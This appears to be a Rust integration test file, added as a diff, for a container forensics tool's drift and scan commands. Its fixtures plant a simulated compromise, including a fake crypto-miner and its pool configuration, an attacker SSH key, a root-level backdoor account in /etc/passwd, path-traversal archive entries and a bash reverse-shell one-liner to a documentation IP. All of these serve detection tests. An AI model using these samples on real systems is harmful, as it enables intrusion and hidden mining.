@@ -1,0 +1,334 @@
+//! `kir drift` and `kir scan` on images and containers built here, in every input form.
+
+mod common;
+mod forensics_fixtures;
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use common::{kir, stdout_of};
+use forensics_fixtures::{Item, archive, docker_save, elf, layer, oci_layout};
+use serde_json::Value;
+
+const PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/sh\n";
+const PASSWD_BACKDOOR: &[u8] = b"root:x:0:0:root:/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n";
+const MINER_PAYLOAD: &[u8] = b"XMRig/6.21.0 --donate-level=1 randomx stratum+tcp://pool.minexmr.com:4444";
+const MINER_CONFIG: &[u8] = br#"{"autosave": true, "pools": [{"url": "stratum+tcp://198.51.100.7:3333", "user": "4Ax", "keepalive": true}], "donate-level": 1}"#;
+
+fn app() -> Vec<u8> {
+    elf(Some("/lib64/ld-linux-x86-64.so.2"), b"the application")
+}
+
+fn miner() -> Vec<u8> {
+    elf(None, MINER_PAYLOAD)
+}
+
+/// Two layers: the second deletes /etc/motd (whiteout) and hides /var/cache's old content (opaque).
+fn image_layers() -> Vec<Vec<u8>> {
+    let app = app();
+    let l1 = layer(&[
+        Item::Dir("etc"),
+        Item::File("etc/passwd", 0o644, PASSWD),
+        Item::File("etc/motd", 0o644, b"welcome\n"),
+        Item::File("etc/os-release", 0o644, b"ID=debian\n"),
+        Item::Dir("usr/bin"),
+        Item::File("usr/bin/app", 0o755, &app),
+        Item::Hardlink("usr/bin/app-hard", "usr/bin/app"),
+        Item::Symlink("bin/link", "../usr/bin/app"),
+        Item::Symlink("escape", "../../../../etc/shadow"),
+        Item::Dir("var/cache"),
+        Item::File("var/cache/old", 0o644, b"old"),
+        Item::Char("dev/null", 1, 3),
+        Item::Fifo("run/fifo"),
+        Item::Dir("tmp"),
+    ]);
+    let l2 = layer(&[
+        Item::File("etc/.wh.motd", 0o644, b""),
+        Item::File("var/cache/.wh..wh..opq", 0o644, b""),
+        Item::File("var/cache/new", 0o644, b"new"),
+        Item::RawName(b"usr/share/we\x1bird\nname", b"hostile name"),
+        Item::RawName(b"../../outside-the-root", b"must never be written"),
+    ]);
+    vec![l1, l2]
+}
+
+/// The container as `docker export` writes it: the merged image, the runtime's files, and
+/// what the attacker did.
+fn export() -> Vec<u8> {
+    let app = app();
+    let miner = miner();
+    layer(&[
+        Item::File(".dockerenv", 0o755, b""),
+        Item::Dir("etc"),
+        Item::File("etc/passwd", 0o644, PASSWD_BACKDOOR),
+        Item::File("etc/hosts", 0o644, b"127.0.0.1 localhost\n10.0.0.7 web\n"),
+        Item::File("etc/resolv.conf", 0o644, b"nameserver 10.96.0.10\n"),
+        Item::Dir("usr/bin"),
+        Item::File("usr/bin/app", 0o755, &app),
+        Item::Hardlink("usr/bin/app-hard", "usr/bin/app"),
+        Item::Symlink("bin/link", "../usr/bin/app"),
+        Item::Symlink("escape", "../../../../etc/shadow"),
+        Item::Dir("var/cache"),
+        Item::File("var/cache/new", 0o644, b"new"),
+        Item::Dir("dev"),
+        Item::Char("dev/null", 1, 3),
+        Item::Dir("proc"),
+        Item::Fifo("run/fifo"),
+        Item::Dir("tmp"),
+        Item::Dir("tmp/.cache"),
+        Item::File("tmp/.cache/xmrig", 0o755, &miner),
+        Item::Dir("root/.ssh"),
+        Item::File("root/.ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAAC3Nza attacker\n"),
+        Item::Dir("opt/miner"),
+        Item::File("opt/miner/config.json", 0o644, MINER_CONFIG),
+        Item::RawName(b"usr/share/we\x1bird\nname", b"hostile name"),
+    ])
+}
+
+const ADDED: [&str; 3] = ["/opt/miner/config.json", "/root/.ssh/authorized_keys", "/tmp/.cache/xmrig"];
+const MODIFIED: [&str; 1] = ["/etc/passwd"];
+const DELETED: [&str; 1] = ["/etc/os-release"];
+
+fn paths(v: &Value, key: &str) -> BTreeSet<String> {
+    v[key].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap().to_string()).collect()
+}
+
+fn set(list: &[&str]) -> BTreeSet<String> {
+    list.iter().map(|s| s.to_string()).collect()
+}
+
+fn drift_json(image: &Path, container: &Path, extra: &[&str]) -> Value {
+    let out = stdout_of(
+        kir().args(["drift", "--format", "json", "--image"]).arg(image).arg("--container").arg(container).args(extra),
+    );
+    serde_json::from_str(&out).unwrap()
+}
+
+fn assert_the_attack(v: &Value) {
+    assert_eq!(paths(v, "added"), set(&ADDED), "{:#}", v["added"]);
+    assert_eq!(paths(v, "modified"), set(&MODIFIED), "{:#}", v["modified"]);
+    assert_eq!(paths(v, "deleted"), set(&DELETED), "{:#}", v["deleted"]);
+    let xmrig = v["added"].as_array().unwrap().iter().find(|e| e["path"] == "/tmp/.cache/xmrig").unwrap();
+    assert_eq!(xmrig["executable"], true);
+    assert_eq!(xmrig["elf"]["arch"], "x86_64");
+    assert_eq!(xmrig["elf"]["statically_linked"], true);
+    assert_eq!(xmrig["sha256"], forensics_fixtures::sha256(&miner()));
+    assert_eq!(xmrig["size"], miner().len());
+    assert_eq!(xmrig["mode"], "0755");
+    let config = v["added"].as_array().unwrap().iter().find(|e| e["path"] == "/opt/miner/config.json").unwrap();
+    assert_eq!((config["executable"].as_bool(), config["elf"].is_null()), (Some(false), true));
+    let findings: BTreeSet<(String, String)> = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["path"].as_str().unwrap().to_string()))
+        .collect();
+    for (rule, path) in [
+        ("binary-in-temp-or-hidden-path", "/tmp/.cache/xmrig"),
+        ("ssh-key", "/root/.ssh/authorized_keys"),
+        ("account-file-changed", "/etc/passwd"),
+    ] {
+        assert!(findings.contains(&(rule.to_string(), path.to_string())), "{rule} on {path}: {findings:?}");
+    }
+}
+
+#[test]
+fn drift_of_an_export_against_an_oci_layout_and_a_docker_save_archive() {
+    let dir = tempfile::tempdir().unwrap();
+    let layers = image_layers();
+    oci_layout(&dir.path().join("oci"), &layers);
+    docker_save(&dir.path().join("image.tar"), &layers);
+    let export_path = dir.path().join("web-export.tar");
+    std::fs::write(&export_path, export()).unwrap();
+
+    let from_oci = drift_json(&dir.path().join("oci"), &export_path, &[]);
+    assert_the_attack(&from_oci);
+    let from_save = drift_json(&dir.path().join("image.tar"), &export_path, &[]);
+    for key in ["added", "modified", "deleted", "findings"] {
+        assert_eq!(from_oci[key], from_save[key], "{key} the same from both image forms");
+    }
+    // The runtime's own files are left out, and said so.
+    let ignored: BTreeSet<String> =
+        from_oci["ignored"].as_array().unwrap().iter().map(|i| i["path"].as_str().unwrap().into()).collect();
+    for p in ["/.dockerenv", "/etc/hosts", "/etc/resolv.conf"] {
+        assert!(ignored.contains(p), "{p} in {ignored:?}");
+    }
+    // A path out of the root is reported, never used.
+    let problems = from_oci["problems"].to_string();
+    assert!(problems.contains("leaves the root"), "{problems}");
+    assert!(!dir.path().parent().unwrap().join("outside-the-root").exists());
+    // --all keeps the runtime's files.
+    let all = drift_json(&dir.path().join("oci"), &export_path, &["--all"]);
+    assert!(paths(&all, "added").contains("/etc/hosts"));
+}
+
+#[test]
+fn drift_of_an_upperdir_and_of_a_layer_tar() {
+    let dir = tempfile::tempdir().unwrap();
+    let layers = image_layers();
+    oci_layout(&dir.path().join("oci"), &layers);
+    let upper = dir.path().join("upperdir");
+    std::fs::create_dir_all(upper.join("tmp/.cache")).unwrap();
+    std::fs::create_dir_all(upper.join("root/.ssh")).unwrap();
+    std::fs::create_dir_all(upper.join("opt/miner")).unwrap();
+    std::fs::create_dir_all(upper.join("etc")).unwrap();
+    std::fs::write(upper.join("tmp/.cache/xmrig"), miner()).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(upper.join("tmp/.cache/xmrig"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(upper.join("root/.ssh/authorized_keys"), b"ssh-ed25519 AAAAC3Nza attacker\n").unwrap();
+    std::fs::set_permissions(upper.join("root/.ssh/authorized_keys"), std::fs::Permissions::from_mode(0o600)).unwrap();
+    std::fs::write(upper.join("opt/miner/config.json"), MINER_CONFIG).unwrap();
+    std::fs::write(upper.join("etc/passwd"), PASSWD_BACKDOOR).unwrap();
+    std::fs::set_permissions(upper.join("etc/passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    // overlayfs marks a deletion with a character device 0:0 (root only); else the OCI form.
+    let made = std::process::Command::new("mknod").arg(upper.join("etc/os-release")).args(["c", "0", "0"]).status();
+    if !made.is_ok_and(|s| s.success()) {
+        std::fs::write(upper.join("etc/.wh.os-release"), b"").unwrap();
+    }
+    // Owners in the upperdir are whoever ran the test; the image's files are root's.
+    let v = drift_json(&dir.path().join("oci"), &upper, &[]);
+    assert_eq!(paths(&v, "added"), set(&ADDED));
+    assert_eq!(paths(&v, "deleted"), set(&DELETED));
+    assert!(paths(&v, "modified").contains("/etc/passwd"));
+
+    // A single layer tar works as an image too.
+    let single = dir.path().join("rootfs.tar.gz");
+    std::fs::write(&single, forensics_fixtures::gzip(&layers[0])).unwrap();
+    let export_path = dir.path().join("export.tar");
+    std::fs::write(&export_path, &layers[0]).unwrap();
+    let same = drift_json(&single, &export_path, &[]);
+    assert_eq!((paths(&same, "added").len(), paths(&same, "modified").len(), paths(&same, "deleted").len()), (0, 0, 0));
+}
+
+#[test]
+fn drift_of_a_checkpoint_archives_rootfs_diff() {
+    let dir = tempfile::tempdir().unwrap();
+    oci_layout(&dir.path().join("oci"), &image_layers());
+    let diff = layer(&[
+        Item::File("tmp/.cache/xmrig", 0o755, &miner()),
+        Item::File("root/.ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAAC3Nza attacker\n"),
+        Item::File("opt/miner/config.json", 0o644, MINER_CONFIG),
+        Item::File("etc/passwd", 0o644, PASSWD_BACKDOOR),
+    ]);
+    let cp = dir.path().join("checkpoint.tar");
+    archive(
+        &cp,
+        &[
+            ("config.dump", br#"{"id": "abc", "name": "web", "rootfsImageName": "shop/web:1.0"}"#.to_vec()),
+            ("rootfs-diff.tar", diff),
+            ("deleted.files", br#"["/etc/os-release"]"#.to_vec()),
+            ("checkpoint/inventory.img", vec![0x16, 0x31, 0x31, 0x58]),
+        ],
+    );
+    let v = drift_json(&dir.path().join("oci"), &cp, &[]);
+    assert_the_attack(&v);
+}
+
+#[test]
+fn drift_scan_names_the_miner_and_fail_on_exits_one() {
+    let dir = tempfile::tempdir().unwrap();
+    docker_save(&dir.path().join("image.tar"), &image_layers());
+    let export_path = dir.path().join("web-export.tar");
+    std::fs::write(&export_path, export()).unwrap();
+    let v = drift_json(&dir.path().join("image.tar"), &export_path, &["--scan"]);
+    let rules: BTreeSet<(String, String)> = v["scan"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| (m["rule"].as_str().unwrap().into(), m["path"].as_str().unwrap().into()))
+        .collect();
+    assert!(rules.contains(&("xmrig-miner".into(), "/tmp/.cache/xmrig".into())), "{rules:?}");
+    assert!(rules.contains(&("miner-config".into(), "/opt/miner/config.json".into())), "{rules:?}");
+    kir()
+        .args(["drift", "-q", "--image"])
+        .arg(dir.path().join("image.tar"))
+        .arg("--container")
+        .arg(&export_path)
+        .args(["--fail-on", "critical"])
+        .assert()
+        .code(1)
+        .stdout(predicates::str::contains("Drift: 3 added (1 executable), 1 modified, 1 deleted"));
+}
+
+#[test]
+fn broken_inputs_are_named_not_fatal() {
+    let dir = tempfile::tempdir().unwrap();
+    let layers = image_layers();
+    docker_save(&dir.path().join("image.tar"), &layers);
+    // An export cut in the middle: what was read before the cut stays.
+    let mut cut = export();
+    cut.truncate(cut.len() / 2);
+    let cut_path = dir.path().join("cut.tar");
+    std::fs::write(&cut_path, &cut).unwrap();
+    let v = drift_json(&dir.path().join("image.tar"), &cut_path, &[]);
+    assert!(v["problems"].to_string().contains("cut.tar"), "{}", v["problems"]);
+    assert!(paths(&v, "added").contains("/tmp/.cache/xmrig") || paths(&v, "deleted").len() > 1);
+    // Not an image at all.
+    let junk = dir.path().join("junk.bin");
+    std::fs::write(&junk, b"this is not a tar").unwrap();
+    kir().args(["drift", "--image"]).arg(&junk).arg("--container").arg(&cut_path).assert().code(2);
+    kir()
+        .args(["drift", "--image"])
+        .arg(dir.path().join("missing.tar"))
+        .arg("--container")
+        .arg(&cut_path)
+        .assert()
+        .code(2);
+}
+
+#[test]
+fn scan_finds_a_planted_miner_among_ten_thousand_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("rootfs");
+    for i in 0..10_000u32 {
+        let d = root.join(format!("srv/data/{:03}", i % 100));
+        if i < 100 {
+            std::fs::create_dir_all(&d).unwrap();
+        }
+        std::fs::write(
+            d.join(format!("file-{i}.txt")),
+            format!("record {i}: nothing to see, pools of water, stratum of rock\n"),
+        )
+        .unwrap();
+    }
+    std::fs::create_dir_all(root.join("var/tmp/.x")).unwrap();
+    std::fs::write(root.join("var/tmp/.x/kworker"), miner()).unwrap();
+    std::fs::write(root.join("var/tmp/.x/config.json"), MINER_CONFIG).unwrap();
+    std::fs::write(root.join("srv/run.sh"), b"#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n").unwrap();
+    let ioc = dir.path().join("iocs.txt");
+    std::fs::write(&ioc, format!("# known bad\n{} kworker miner\n", forensics_fixtures::sha256(&miner()))).unwrap();
+
+    let out = stdout_of(kir().args(["scan", "--format", "jsonl", "--hashes"]).arg(&ioc).arg(&root));
+    let matches: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let base = root.display().to_string();
+    let found: BTreeSet<(String, String)> = matches
+        .iter()
+        .map(|m| (m["rule"].as_str().unwrap().into(), m["path"].as_str().unwrap().trim_start_matches(&base).into()))
+        .collect();
+    for (rule, path) in [
+        ("xmrig-miner", "/var/tmp/.x/kworker"),
+        ("sha256-ioc", "/var/tmp/.x/kworker"),
+        ("miner-config", "/var/tmp/.x/config.json"),
+        ("stratum-url", "/var/tmp/.x/config.json"),
+        ("reverse-shell", "/srv/run.sh"),
+    ] {
+        assert!(found.contains(&(rule.to_string(), path.to_string())), "{rule} on {path}: {found:?}");
+    }
+    assert!(found.iter().all(|(_, p)| !p.starts_with("/srv/data/")), "the harmless files stay quiet: {found:?}");
+    for m in &matches {
+        assert_eq!(m["sha256"].as_str().unwrap().len(), 64);
+    }
+    kir().args(["scan", "-q", "--fail-on", "high"]).arg(&root).assert().code(1);
+}
+
+#[test]
+fn scan_reads_tars_as_they_stream_and_stays_quiet_on_a_clean_system() {
+    let dir = tempfile::tempdir().unwrap();
+    let export_path = dir.path().join("web-export.tar.gz");
+    std::fs::write(&export_path, forensics_fixtures::gzip(&export())).unwrap();
+    let out = stdout_of(kir().args(["scan", "--format", "jsonl"]).arg(&export_path));
+    assert!(out.contains("\"rule\":\"xmrig-miner\"") && out.contains("\"path\":\"/tmp/.cache/xmrig\""), "{out}");
+    // The machine's own Debian binaries and configuration raise nothing.
+    let clean = stdout_of(kir().args(["scan", "-q", "--format", "jsonl", "/etc", "/usr/bin", "/usr/sbin"]));
+    assert_eq!(clean, "", "false positives on a clean Debian system");
+}
